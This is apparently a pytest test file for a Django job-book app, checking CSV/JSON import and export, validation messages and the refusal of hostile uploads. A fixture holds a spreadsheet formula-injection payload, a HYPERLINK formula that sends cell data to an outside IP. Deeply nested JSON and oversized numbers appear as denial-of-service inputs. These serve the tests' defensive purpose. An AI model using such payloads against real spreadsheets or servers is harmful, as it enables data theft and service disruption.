import csv
import io
import json

import pytest
from django.core.exceptions import ValidationError
from django_scopes import scopes_disabled

from jobbook import interchange, selectors, services
from jobbook.models import Competency, Skill

pytestmark = pytest.mark.django_db

HEADER = "competency,competency_hours,minimum_hours,skill\n"


@pytest.fixture(autouse=True)
def _unscoped():
    with scopes_disabled():
        yield


def test_json_export_then_import_gives_an_equal_book(penn_book, allegheny_book, keystone_admin, editor):
    source = selectors.published_version(penn_book)
    exported = interchange.export_json(source, services.version_content(source))
    draft = services.version_start_draft(job_book=allegheny_book, by=editor)
    content = interchange.parse_book_file(exported.encode(), "a.json")
    services.version_replace_content(version=draft, content=content, by=editor)
    assert services.version_content(draft) == services.version_content(source)


def test_csv_export_then_import_gives_an_equal_book(penn_book, allegheny_book, keystone_admin, editor):
    source = selectors.published_version(penn_book)
    exported = interchange.export_csv(services.version_content(source))
    draft = services.version_start_draft(job_book=allegheny_book, by=editor)
    content = interchange.parse_book_file(exported.encode(), "a.csv")
    services.version_replace_content(version=draft, content=content, by=editor)
    assert services.version_content(draft) == services.version_content(source)


FORMULAS = ['=HYPERLINK("http://203.0.113.9/steal?d="&A1,"Open")', "+1 Lift safely", "-40 °F storage",
            "@SUM(A1:A9)", "\tIndented", "\rReturned"]


def test_cells_a_spreadsheet_would_run_as_formulas_are_exported_as_text():
    content = [{
        "key": "-k1", "name": FORMULAS[0], "description": FORMULAS[3], "target_hours": 100, "minimum_hours": None,
        "skills": [{"key": "", "name": name, "description": ""} for name in FORMULAS[1:]],
    }]
    rows = list(csv.reader(io.StringIO(interchange.export_csv(content))))[1:]
    cells = [cell for row in rows for cell in row if cell]
    dangerous = [cell for cell in cells if cell.startswith(interchange.FORMULA_START)]
    assert dangerous == []
    assert rows[0][0] == "'" + FORMULAS[0] and rows[0][4] == "'@SUM(A1:A9)" and rows[0][6] == "'-k1"
    assert [row[3] for row in rows] == ["'" + name for name in FORMULAS[1:]]
    assert rows[0][1] == "100"  # numbers are numbers


def test_a_book_with_formula_like_names_comes_back_unchanged_from_its_csv(
    penn_book, allegheny_book, keystone_admin, editor
):
    source = services.version_start_draft(job_book=penn_book, by=editor)
    services.version_replace_content(by=editor, version=source, content=[
        {"key": "-lead", "name": FORMULAS[0], "description": "=1+1 is two", "target_hours": 100,
         "minimum_hours": 50, "skills": [
             {"key": "", "name": "+ Add oil", "description": "@ the press"},
             {"key": "", "name": "-40 °F storage", "description": ""},
             {"key": "", "name": "'Tis the season: a quote of the author's own", "description": "'=not ours"},
         ]},
    ])
    exported = interchange.export_csv(services.version_content(source))
    assert "\n=" not in exported and ",=" not in exported and ",+" not in exported and ",@" not in exported
    draft = services.version_start_draft(job_book=allegheny_book, by=editor)
    content = interchange.parse_book_file(exported.encode(), "a.csv")
    services.version_replace_content(version=draft, content=content, by=editor)
    assert services.version_content(draft) == services.version_content(source)


def test_csv_has_one_row_per_skill(penn_book):
    source = selectors.published_version(penn_book)
    exported = interchange.export_csv(services.version_content(source))
    assert exported.splitlines()[0].startswith("competency,competency_hours,minimum_hours,skill")
    assert len(exported.splitlines()) == 1 + Skill.objects.filter(competency__version=source).count()


def test_a_csv_without_keys_gets_new_keys_and_keeps_its_order():
    content = interchange.parse_book_file(
        (HEADER + "Safety,100,,Wear PPE\nSafety,100,,Find the exits\nQuality,50,40,Check first piece\n").encode(),
        "book.csv",
    )
    assert [(c["name"], c["target_hours"], c["minimum_hours"], len(c["skills"])) for c in content] == [
        ("Safety", 100, None, 2), ("Quality", 50, 40, 1),
    ]


BAD_FILES = [
    ("not JSON or CSV", b"\x89PNG\r\n\x1a\n\x00\x00binary", "logo.png", "not a JSON or CSV"),
    ("plain text", b"just some words\nand more", "notes.txt", "neither JSON nor CSV"),
    ("broken JSON", b'{"competencies": [\n  {"name": "Safety",\n}', "book.json", "line 3"),
    ("JSON of the wrong shape", b"[1, 2]", "book.json", "“competencies” list"),
    ("missing columns", b"competency,skill\nSafety,Wear PPE\n", "book.csv",
     "Line 1: missing column(s) “competency_hours”"),
    ("negative hours in CSV", (HEADER + "Safety,100,,Wear PPE\nQuality,-5,,Check\n").encode(), "book.csv",
     "Line 3, field “competency_hours”: hours cannot be negative"),
    ("non-numeric hours in CSV", (HEADER + "Safety,lots,,Wear PPE\n").encode(), "book.csv",
     "Line 2, field “competency_hours”: “lots” is not a whole number"),
    ("non-numeric minimum in CSV", (HEADER + "Safety,100,some,Wear PPE\n").encode(), "book.csv",
     "Line 2, field “minimum_hours”"),
    ("duplicate skill in CSV", (HEADER + "Safety,100,,Wear PPE\nSafety,100,,wear ppe\n").encode(), "book.csv",
     "Line 3, field “skill”: “wear ppe” is listed twice"),
    ("conflicting hours in CSV", (HEADER + "Safety,100,,Wear PPE\nSafety,90,,Exits\n").encode(), "book.csv",
     "Line 3, field “competency_hours”: 90 differs from 100 on line 2"),
    ("too many hours", (HEADER + "Safety,4000,,Wear PPE\n").encode(), "book.csv", "Line 2, field “competency_hours”"),
    ("too many rows", (HEADER + "".join(f"Safety,100,,Skill {n}\n" for n in range(501))).encode(), "book.csv",
     "at most 500"),
    ("too large", b"competency,competency_hours,skill\n" + b"x" * (1024 * 1024), "book.csv", "at most 1024 KB"),
    ("empty", b"  \n", "book.csv", "empty"),
]


def _json(competencies):
    return json.dumps({"competencies": competencies}, indent=2).encode()


BAD_JSON = [
    ("negative hours in JSON", _json([{"name": "Safety", "target_hours": -1, "skills": [{"name": "PPE"}]}]),
     "Line 3 (competency 1), field “target_hours”: hours cannot be negative"),
    ("non-numeric hours in JSON", _json([{"name": "Safety", "target_hours": "ten", "skills": []}]),
     "Line 3 (competency 1), field “target_hours”: “ten” is not a whole number"),
    ("duplicate competency in JSON", _json([
        {"name": "Safety", "target_hours": 1, "skills": []}, {"name": "SAFETY", "target_hours": 2, "skills": []},
    ]), "Line 8 (competency 2), field “name”: “SAFETY” is already the name of the competency on line 3"),
    ("duplicate skill in JSON",
     _json([{"name": "Safety", "target_hours": 1, "skills": [{"name": "A"}, {"name": "a"}]}]),
     "(skill 2 of competency 1), field “name”: “a” is listed twice"),
    ("skill without name in JSON", _json([{"name": "Safety", "target_hours": 1, "skills": [{"name": ""}]}]),
     "Line 7 (skill 1 of competency 1), field “name”: this cannot be empty"),
]


@pytest.mark.parametrize(
    ("data", "filename", "message"), [(d, f, m) for _k, d, f, m in BAD_FILES], ids=[k for k, *_ in BAD_FILES]
)
def test_a_bad_file_is_refused_with_a_message_that_points_at_the_problem(data, filename, message):
    with pytest.raises(ValidationError) as refused:
        interchange.parse_book_file(data, filename)
    assert any(message in m for m in refused.value.messages), refused.value.messages


@pytest.mark.parametrize(("data", "message"), [(d, m) for _k, d, m in BAD_JSON], ids=[k for k, *_ in BAD_JSON])
def test_a_bad_json_book_is_refused_with_the_line_and_field(data, message):
    with pytest.raises(ValidationError) as refused:
        interchange.parse_book_file(data, "book.json")
    assert any(message in m for m in refused.value.messages), refused.value.messages
@pytest.mark.parametrize("data", [d for _k, d, _f, _m in BAD_FILES[:4]] + [d for _k, d, _m in BAD_JSON])
def test_a_refused_import_through_the_page_leaves_the_database_unchanged(data, penn_book, world, client_for):
    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.urls import reverse

    from imt.permissions import Role

    draft = selectors.draft_version(penn_book)
    before = (services.version_content(draft), Competency.objects.count(), Skill.objects.count())
    client = client_for(world.user("keystone", Role.EMPLOYER_ADMIN))
    response = client.post(
        reverse("job_book_import", args=["keystone", penn_book.pk]),
        {"file": SimpleUploadedFile("book.json", data)},
    )
    assert response.status_code == 200
    assert response.context["form"].errors["file"]
    assert (services.version_content(draft), Competency.objects.count(), Skill.objects.count()) == before


def _book_json(target_hours, skills="[]"):
    return f'{{"competencies": [{{"name": "Safety", "target_hours": {target_hours}, "skills": {skills}}}]}}'.encode()


HOSTILE = [
    ("deeply nested JSON", b'{"competencies": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", "book.json",
     "nests lists and objects more than 8 deep"),
    ("400-digit hours in JSON", _book_json("9" * 400), "book.json",
     "field “target_hours”: 99999999999999999999… hours is more than the 3000"),
    ("5,000-digit hours in JSON", _book_json("9" * 5000), "book.json", "hours is more than the 3000"),
    ("1e999999 hours in JSON", _book_json("1e999999"), "book.json",
     "field “target_hours”: 1e999999 hours is more than the 3000"),
    ("skills that are a number in JSON", _book_json(10, skills="12"), "book.json", "field “skills”: expected a list"),
    ("400-digit hours in CSV", (HEADER + "Safety," + "9" * 400 + ",,Wear PPE\n").encode(), "book.csv",
     "Line 2, field “competency_hours”: 99999999999999999999… hours is more than the 3000"),
]


@pytest.mark.parametrize(("data", "filename", "message"), [h[1:] for h in HOSTILE], ids=[h[0] for h in HOSTILE])
def test_a_hostile_file_is_refused_through_the_page_with_a_message_not_an_error_page(
    data, filename, message, penn_book, world, client_for
):
    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.urls import reverse

    from imt.permissions import Role

    draft = selectors.draft_version(penn_book)
    before = services.version_content(draft)
    client = client_for(world.user("keystone", Role.EMPLOYER_ADMIN))
    response = client.post(
        reverse("job_book_import", args=["keystone", penn_book.pk]), {"file": SimpleUploadedFile(filename, data)},
    )
    assert response.status_code == 200
    assert any(message in error for error in response.context["form"].errors["file"]), response.context["form"].errors
    assert services.version_content(draft) == before
